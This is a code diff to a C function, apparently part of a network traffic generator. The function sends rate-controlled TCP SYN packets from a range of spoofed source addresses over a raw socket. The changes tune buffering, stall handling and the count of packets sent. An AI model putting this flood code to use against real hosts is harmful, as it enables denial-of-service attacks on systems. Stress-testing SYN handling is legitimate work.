@@ -337,19 +337,26 @@ static inline uint32_t syn_flood(int proto, uint32_t src, uint32_t span,
 				 const char *dst, int port, int rate, int ms)
 {
 	struct sockaddr_in to = ttp_sockaddr(AF_INET, dst, 0);
-	uint32_t start = now_ms(), n = 0;
+	uint32_t start = now_ms(), n = 0, sent = 0, late = rate / 50 + 1;
 	uint8_t pkt[40], pseudo[12];
+	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), sndbuf = 1 << 22;
 	uint16_t sum;
-	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
 
 	if (fd < 0)
 		return 0;
+	/* SYNs waiting in a receiver's ring stay charged to this socket */
+	setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &sndbuf, sizeof(sndbuf));
 	while (now_ms() - start < (uint32_t)ms) {
+		uint32_t due = (uint64_t)(now_ms() - start) * rate / 1000;
+
 		/* at rate, not faster: the caller chose what to offer */
-		if (n > (uint64_t)(now_ms() - start) * rate / 1000) {
+		if (n > due) {
 			usleep(1000);
 			continue;
 		}
+		/* after a stall, no burst: more than 20 ms late is skipped */
+		if (due - n > late)
+			n = due - late;
 		uint32_t from = htonl(src + n % span);
 		uint16_t sport = 1024 + n % 60000;
 		uint32_t seq = n * 7919;
@@ -382,11 +389,11 @@ static inline uint32_t syn_flood(int proto, uint32_t src, uint32_t span,
 		sum = csum_fold(csum_add(csum_add(0, pseudo, 12), pkt + 20, 20));
 		pkt[36] = sum >> 8;
 		pkt[37] = sum;
-		sendto(fd, pkt, sizeof(pkt), 0, (struct sockaddr *)&to,
-		       sizeof(to));
+		sent += sendto(fd, pkt, sizeof(pkt), MSG_DONTWAIT,
+			       (struct sockaddr *)&to, sizeof(to)) > 0;
 	}
 	close(fd);
-	return n;
+	return sent;
 }
 
 /*
